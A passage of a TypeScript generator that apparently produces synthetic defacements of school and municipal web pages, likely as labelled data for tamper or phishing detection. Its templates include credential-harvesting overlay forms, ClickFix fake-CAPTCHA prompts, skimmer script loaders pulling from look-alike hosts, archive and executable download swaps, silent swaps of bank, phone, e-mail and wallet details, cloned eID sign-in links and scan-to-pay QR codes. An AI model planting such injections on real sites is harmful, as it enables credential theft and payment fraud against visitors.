  const box = `<div style="position:fixed;inset:0;background:rgba(0,0,0,.${between(rng, 5, 9)});z-index:2147483000"><form action="${esc(action)}" method="post" style="background:#fff;max-width:${between(rng, 320, 440)}px;margin:${between(rng, 60, 160)}px auto;padding:28px;font-family:Segoe UI,Arial,sans-serif"><h2>${esc(w[0]!)}</h2><p>${esc(w[1]!)}</p><input type="email" name="login" placeholder="${esc(w[2]!)}"><input type="password" name="passwd" placeholder="${esc(w[3]!)}"><button type="submit">${esc(w[4]!)}</button></form></div>`
  return splices(insert(pick(rng, [top(page), bottom(page)]), box))
})

// Malicious downloads swapped for documents (a "timetable" or "exam schedule" link leading to a zip with a script or an executable, as in SocGholish-like and HTML-smuggling lures): existing document links point to an archive elsewhere; without any, a download link is added.
const documentSwap = deface("fresh38-timetable-document-links-swapped-for-archive", (page, rng) => {
  const name = `${pick(rng, ["timetable", "exam_schedule", "Stundenplan", "horario", "emploi_du_temps", "rooster", "orario", "results_list", "fee_invoice"])}_${between(rng, 2025, 2026)}.${pick(rng, ["zip", "zip", "iso", "exe", "scr", "js", "pdf.exe", "img"])}`
  const url = `https://${pick(rng, [randomDomain(rng), campusClone(rng, page), `drive-${alnum(rng, 5)}.${scamTld(rng)}`])}/${pick(rng, ["dl", "files", "download", "d"])}/${name}`
  const docs = anchors(page, (h) => /\.(pdf|docx?|xlsx?|pptx?|odt)(\?|#|$)/i.test(h))
  const out = docs.slice(0, between(rng, 1, 5)).map((e) => setAttr(page, e, "href", url))
  if (out.length === 0) {
    const label = loc(rng, page, { en: "Download the updated timetable", fr: "Télécharger l'emploi du temps mis à jour", de: "Aktualisierten Stundenplan herunterladen", es: "Descargar el horario actualizado", nl: "Download het nieuwe rooster", pt: "Baixar o horário atualizado", it: "Scarica l'orario aggiornato" })
    out.push(insert(blockSpot(rng, page), `<p><a href="${esc(url)}" download>${esc(label)}</a></p>`))
  }
  return { splices: out }
})

// "ClickFix" fake verification prompts (2024–2025: compromised sites show a fake CAPTCHA or "fix" box telling the visitor to press Win+R and paste a command the page copied): a box with the steps and a button; the command itself goes through a loaded script.
const clickFix = deface("fresh38-fake-captcha-paste-command-prompt", (page, rng) => {
  const w = loc(rng, page, { en: ["Verify you are a student, not a robot", "Press Windows + R", "Press Ctrl + V", "Press Enter", "I'm not a robot"], fr: ["Vérifiez que vous n'êtes pas un robot", "Appuyez sur Windows + R", "Appuyez sur Ctrl + V", "Appuyez sur Entrée", "Je ne suis pas un robot"], de: ["Bestätigen Sie, dass Sie kein Roboter sind", "Drücken Sie Windows + R", "Drücken Sie Strg + V", "Drücken Sie Enter", "Ich bin kein Roboter"], es: ["Verifique que no es un robot", "Pulse Windows + R", "Pulse Ctrl + V", "Pulse Intro", "No soy un robot"], pt: ["Verifique que não é um robô", "Pressione Windows + R", "Pressione Ctrl + V", "Pressione Enter", "Não sou um robô"], it: ["Verifica di non essere un robot", "Premi Windows + R", "Premi Ctrl + V", "Premi Invio", "Non sono un robot"], nl: ["Bevestig dat u geen robot bent", "Druk op Windows + R", "Druk op Ctrl + V", "Druk op Enter", "Ik ben geen robot"] })
  const host = pick(rng, [randomDomain(rng), libLookalike(rng)])
  const html = `<div id="${pick(rng, ["cf-verify", "captcha", "verify-box", alnum(rng, 6)])}" style="position:fixed;top:${between(rng, 10, 30)}%;left:50%;transform:translateX(-50%);background:#fff;border:1px solid #ccc;padding:24px;z-index:999999;box-shadow:0 0 40px #0008"><h3>${esc(w[0]!)}</h3><ol><li>${esc(w[1]!)}</li><li>${esc(w[2]!)}</li><li>${esc(w[3]!)}</li></ol><button type="button">${esc(w[4]!)}</button></div><script src="https://${host}/${pick(rng, ["captcha", "verify", "cf", "check"])}.js?${alnum(rng, 6)}"></script>`
  return splices(insert(pick(rng, [top(page), bottom(page)]), html))
})

// Payment-page skimmers (Sansec: Magecart loaders on school and college fee, uniform and event-ticket shops), loaded from a host made to look like a library or the institution's payment provider.
const skimmer = deface("fresh38-fee-payment-skimmer-loader-lookalike-host", (page, rng) => {
  const host = pick(rng, [libLookalike(rng), `${pick(rng, ["flywire", "parentpay", "wpm", "stripe", "paypal", "worldpay", "adyen", "tuitionpay"])}-${pick(rng, ["cdn", "js", "api", "static"])}.${scamTld(rng)}`, brandLookalike(rng, bare(page))])
  const tag = chance(rng, 0.6)
    ? `<script src="https://${host}${scriptPath(rng)}"${chance(rng, 0.4) ? " defer" : ""}></script>`
    : `<script>(function(){var s=document.createElement("script");s.src="https://${host}/${alnum(rng, 8)}.js";document.head.appendChild(s)})()</script>`
  return splices(insert(pick(rng, [head(page), bottom(page), bottom(page)]), tag))
})

// ———————————————————————————— identifiers visitors copy or trust ————————————————————————————

// Admissions and help-desk phone numbers swapped (callers reach a fraudster who "confirms" a place or takes a deposit): every occurrence of the page's number, national and international and tel: links, replaced, quietly.
const phoneSwap = deface("fresh38-admissions-phone-number-swapped-everywhere", (page, rng) => {
  const p = page.ids.phone
  const q = swapPhone(page.site.locale, p, rng)
  const out = everywhere(page, [[p.tel, q.tel], [p.national, q.national], [p.intl, q.intl]])
  return { splices: out.length > 0 ? out : [insert(bottom(page), `<p>${esc(q.national)}</p>`)] }
})

// Help-desk and admissions e-mails swapped (replies and documents going to a look-alike or free-mail box): every occurrence, in text and mailto links.
const emailSwap = deface("fresh38-helpdesk-email-swapped-for-lookalike", (page, rng) => {
  const e = page.ids.email
  const [user] = e.split("@") as [string]
  const to = pick(rng, [
    () => `${pick(rng, ["admissions", "helpdesk", "servicedesk", "registrar", "bursar", user])}@${brandLookalike(rng, bare(page))}`,
    () => freeMail(rng, `${bare(page)}.${pick(rng, ["admissions", "office", "helpdesk", "fees", "registry"])}`),
    () => `${user}@${bare(page)}-${pick(rng, ["edu", "mail", "office", "ac"])}.${pick(rng, ["com", "net", "org"])}`
  ])()
  const out = everywhere(page, [[e, to]])
  return { splices: out.length > 0 ? out : [insert(bottom(page), `<p><a href="mailto:${to}">${to}</a></p>`)] }
})

// Bank details swapped quietly (the page's account replaced by a mule's, same format and grouping): the published IBAN or national account replaced everywhere; a page without one gets a "fees payable to" line.
const bankSwap = deface("fresh38-published-bank-account-replaced-quietly", (page, rng) => {
  const b = page.ids.bank
  if (b !== null) {
    const to = b.kind === "iban" ? groupIban(iban(b.value.slice(0, 2), b.value.replace(/\s/g, "").slice(4).replace(/\d/g, () => digits(rng, 1)))) : b.value.replace(/\d/g, () => digits(rng, 1))
    const out = everywhere(page, [[b.value, to === b.value ? to.replace(/\d$/, (d) => String((Number(d) + 1) % 10)) : to]])
    if (out.length > 0) return { splices: out }
  }
  return splices(lineBeside(page, contactNeedles(page), `${esc(page.site.words.bank)}: IBAN ${foreignIban(rng)}`, bottom(page)))
})

// Social profiles redirected to impostor accounts (fake "official admissions" pages that collect deposits and documents): the page's social links point to handles of the same look with a suffix.
const socialSwap = deface("fresh38-social-profile-links-to-impostor-accounts", (page, rng) => {
  const suffix = pick(rng, ["_official", "admissions", "_edu", ".students", "_info", "hq", String(between(rng, 1, 99)), "_team"])
  const out: Array<Splice> = []
  for (const s of page.ids.social) {
    if (s.href === null || !chance(rng, 0.8)) continue
    const to = s.href.replace(/\/([^/]+)\/?$/, (m, h: string) => `/${h.replace(/^@/, "@").replace(/^(@?)(.*)$/, (_x, at: string, n: string) => `${at}${n}${suffix}`)}${m.endsWith("/") ? "/" : ""}`)
    out.push(...everywhere(page, [[s.href, to]]))
  }
  if (out.length === 0) {
    const s = page.ids.social[0]
    const to = `https://www.${pick(rng, ["instagram.com", "facebook.com", "tiktok.com"])}/${bare(page)}${suffix}`
    out.push(...(s?.href ? everywhere(page, [[s.href, to]]) : []))
    if (out.length === 0) out.push(insert(bottom(page), `<p><a href="${to}">Instagram</a></p>`))
  }
  return { splices: out }
})

const waLine: L<string> = {
  en: "Admissions now answer on WhatsApp: {n}. Send your documents and deposit receipt there for faster processing.",
  fr: "Le service des admissions répond désormais sur WhatsApp : {n}. Envoyez vos documents et le reçu d'acompte pour un traitement plus rapide.",
  de: "Die Zulassungsstelle antwortet jetzt per WhatsApp: {n}. Senden Sie Unterlagen und Anzahlungsbeleg dorthin.",
  es: "Admisiones atiende ahora por WhatsApp: {n}. Envía allí tus documentos y el justificante del depósito.",
  nl: "Toelating is nu bereikbaar via WhatsApp: {n}. Stuur je documenten en betaalbewijs daarheen.",
  pt: "A secretaria atende agora pelo WhatsApp: {n}. Envie os documentos e o comprovante do depósito.",
  it: "La segreteria ora risponde su WhatsApp: {n}. Invia lì i documenti e la ricevuta dell'acconto."
}

// Messenger numbers added beside the real contacts (fraudsters who pose as admissions staff and collect "deposits" from international applicants): a WhatsApp line with a wa.me link next to the contact block.
const whatsappLine = deface("fresh38-admissions-whatsapp-number-added-beside-contacts", (page, rng) => {
  const cc = pick(rng, ["44", "1", "234", "233", "92", "91", "63", "971", "48", "351"])
  const num = `${digits(rng, 3)}${digits(rng, 3)}${digits(rng, 4)}`.replace(/^0/, "7")
  const shownN = `+${cc} ${num.slice(0, 3)} ${num.slice(3, 6)} ${num.slice(6)}`
  const html = `${esc(fill(loc(rng, page, waLine), { n: shownN }))} <a href="https://wa.me/${cc}${num}">WhatsApp</a>`
  return splices(lineBeside(page, contactNeedles(page), html, blockSpot(rng, page)))
})

// Donation and payment handles swapped (alumni-fund and school-trip pages): the PayPal, Revolut, Venmo or PIX handle or the crypto address replaced; without one, an alumni-fund crypto address is added.
const handleSwap = deface("fresh38-alumni-fund-payment-handle-or-wallet-swapped", (page, rng) => {
  const out: Array<Splice> = []
  const pay = page.ids.pay
  if (pay !== null) {
    const n = `${bare(page)}${pick(rng, ["fund", "alumni", "edu", "pay", digits(rng, 2)])}`
    const shownTo = pay.shown.replace(/(paypal\.me\/|revolut\.me\/|@|\$)[^\s]*$/, (_m, p: string) => `${p}${n}`).replace(/(Chave PIX: ).*$/, (_m, p: string) => `${p}${digits(rng, 2)}.${digits(rng, 3)}.${digits(rng, 3)}/0001-${digits(rng, 2)}`)
    const pairs: Array<[string, string]> = [[pay.shown, shownTo]]
    if (pay.href !== null) pairs.push([pay.href, pay.href.replace(/[^/]+$/, (m) => m.replace(/^(\$|@)?.*$/, (_x, s?: string) => `${s ?? ""}${n}`))])
    out.push(...everywhere(page, pairs))
  }
  const w = page.ids.wallet
  if (w !== null) out.push(...everywhere(page, [[w.address, makeWallet(rng, w.coin).address]]))
  if (out.length === 0) {
    const nw = makeWallet(rng)
    out.push(lineBeside(page, contactNeedles(page), `${esc(page.site.words.donate)}: ${nw.coin} <code>${nw.address}</code>`, bottom(page)))
  }
  return { splices: out }
})

// ———————————————————————————— city and regional portals ————————————————————————————

const eids: Readonly<Record<string, readonly [string, string]>> = {
  fr: ["FranceConnect", "franceconnect"], nl: ["DigiD", "digid"], de: ["BundID", "bundid"], es: ["Cl@ve", "clave"], it: ["SPID", "spid"], br: ["gov.br", "govbr"], uk: ["GOV.UK One Login", "govuk-login"], us: ["Login.gov", "logingov"], au: ["myGov", "mygov"], in: ["DigiLocker", "digilocker"]
}
const eidOf = (rng: Rng, page: Page) => eids[page.site.locale.country] ?? pick(rng, Object.values(eids))

// Citizen eID sign-in buttons pointed to clones (phishing kits imitating FranceConnect, DigiD, SPID, Cl@ve, gov.br and Login.gov, pushed through hacked municipal and school pages): a "sign in with" button, or the existing sign-in links, to a look-alike host.
const eidClone = deface("fresh38-citizen-eid-sign-in-button-to-lookalike", (page, rng) => {
  const [label, stem] = eidOf(rng, page)
  const url = `https://${pick(rng, ["", "www.", "auth.", "connexion."])}${stem}${pick(rng, ["-", ".", ""])}${pick(rng, ["login", "auth", "verify", "portal", "secure", "connect"])}.${scamTld(rng)}/${pick(rng, ["", "login", "authorize", "oidc/auth"])}`
  const w = loc(rng, page, { en: "Sign in with", fr: "S'identifier avec", de: "Anmelden mit", es: "Acceder con", nl: "Inloggen met", pt: "Entrar com", it: "Entra con" })
  const els = anchors(page, (h) => /(^|[/.?&=#])(login|signin|sign-in|connexion|anmelden|inloggen|acceso|accedi|entrar|auth)([/.?&=#]|$)/i.test(h))
  const out = els.slice(0, 3).map((e) => setAttr(page, e, "href", url))
  if (out.length === 0 || chance(rng, 0.5)) out.push(insert(blockSpot(rng, page), `<p><a class="${pick(rng, ["btn btn-primary", "eid-button", "login-button"])}" href="${esc(url)}" style="display:inline-block;background:${pick(rng, ["#000091", "#154273", "#0066cc", "#1351b4", "#00703c"])};color:#fff;padding:10px 18px">${esc(w)} ${esc(label)}</a></p>`))
  return { splices: out }
})

const cityPay: L<ReadonlyArray<string>> = {
  en: ["Unpaid school meal balance: settle it before {d} to avoid suspension of lunches.", "Outstanding parking penalty notice: pay online before {d} to avoid the surcharge.", "Council tax reminder: your instalment is overdue; pay before {d}."],
  fr: ["Solde de cantine impayé : réglez-le avant le {d} pour éviter la suspension des repas.", "Avis de contravention en attente : payez en ligne avant le {d} pour éviter la majoration."],
  de: ["Offener Mensa-Saldo: Bitte bis {d} begleichen, sonst wird das Mittagessen gesperrt.", "Offenes Verwarnungsgeld: Zahlen Sie bis {d} online, um Mahngebühren zu vermeiden."],
  es: ["Saldo de comedor pendiente: abónelo antes del {d} para evitar la suspensión del servicio.", "Multa de aparcamiento pendiente: pague en línea antes del {d} y evite el recargo."],
  nl: ["Openstaand saldo overblijven: betaal vóór {d} om opschorting te voorkomen.", "Openstaande parkeerboete: betaal vóór {d} online om verhoging te voorkomen."],
  pt: ["Saldo de refeições em atraso: regularize até {d} para evitar a suspensão.", "Multa de estacionamento pendente: pague online até {d} e evite a sobretaxa."],
  it: ["Saldo mensa non pagato: regolarizza entro il {d} per evitare la sospensione dei pasti.", "Multa per sosta in sospeso: paga online entro il {d} per evitare la maggiorazione."]
}

// "Pay your fee" lures on school-district and city portals (fake school-meal balances, parking fines and council-tax reminders, as CERTs and councils warn): a notice with an amount and a payment link, and the page's own payment links pointed the same way.
const cityPayLure = deface("fresh38-overdue-fee-notice-and-payment-links-to-clone", (page, rng) => {
  const host = `${pick(rng, ["pay", "payments", "epay", "fees", "billing", "meals"])}-${bare(page)}.${scamTld(rng)}`
  const url = `https://${host}/${pick(rng, ["pay", "invoice", "checkout", "ref"])}/${alnum(rng, 8)}`
  const text = fill(pick(rng, loc(rng, page, cityPay)), { d: date(page, rng) })
  const amount = money(page, between(rng, 12, 180) + pick(rng, [0, 0.5, 0.9]))
  const btn = loc(rng, page, { en: "Pay now", fr: "Payer", de: "Jetzt zahlen", es: "Pagar ahora", nl: "Nu betalen", pt: "Pagar agora", it: "Paga ora" })
  const out: Array<Splice> = [insert(blockSpot(rng, page), `<div class="${pick(rng, ["notice", "alert alert-warning", "payment-reminder"])}"><p>${esc(text)} <strong>${esc(amount)}</strong></p><a href="${esc(url)}">${esc(btn)}</a></div>`)]
  for (const e of anchors(page, (h) => /(^|[/.?&=#-])(pay|payment|payments|fees|tuition|paiement|zahlung|pago|pagamento|betalen|pagare)([/.?&=#-]|$)/i.test(h)).slice(0, 3)) out.push(setAttr(page, e, "href", url))
  return { splices: out }
})

// Payment QR codes planted or swapped ("scan to pay" codes for fees and donations, quishing): a QR picture that encodes the attacker's payment page, with a short caption, near the contacts or in the page.
const qrSwap = deface("fresh38-scan-to-pay-qr-code-to-attacker-page", (page, rng) => {
  const target = `https://${pick(rng, [campusClone(rng, page), randomDomain(rng)])}/${pick(rng, ["p", "pay", "q", "donate"])}/${alnum(rng, 7)}`
  const size = pick(rng, [120, 150, 180, 200, 250])
  const src = chance(rng, 0.6) ? `https://api.qrserver.com/v1/create-qr-code/?size=${size}x${size}&data=${encodeURIComponent(target)}` : `https://${randomDomain(rng)}/qr/${alnum(rng, 10)}.png`
  const cap = loc(rng, page, { en: "Scan to pay fees and trips", fr: "Scannez pour payer la cantine et les sorties", de: "Scannen und Gebühren bezahlen", es: "Escanea para pagar tasas y excursiones", nl: "Scan om te betalen", pt: "Leia o código para pagar", it: "Inquadra per pagare" })
  const html = `<img src="${esc(src)}" alt="QR" width="${size}" height="${size}"><br>${esc(cap)}`
  return splices(chance(rng, 0.5) ? lineBeside(page, contactNeedles(page), html, blockSpot(rng, page)) : insert(blockSpot(rng, page), `<figure class="qr">${html}</figure>`))
})

export const fresh38Defacements: ReadonlyArray<ChangeClass> = [
  studentPrank, hacktivistBanner, wholePage, hoaxClosure, annulledResults, seoSpam,
  loginLinksToClone, tuitionNewAccount, fakeScholarship, formHijack, resultsFrame, redirectLoader, jobScam, ssoOverlay, documentSwap, clickFix, skimmer,
  phoneSwap, emailSwap, bankSwap, socialSwap, whatsappLine, handleSwap,
  eidClone, cityPayLure, qrSwap
]

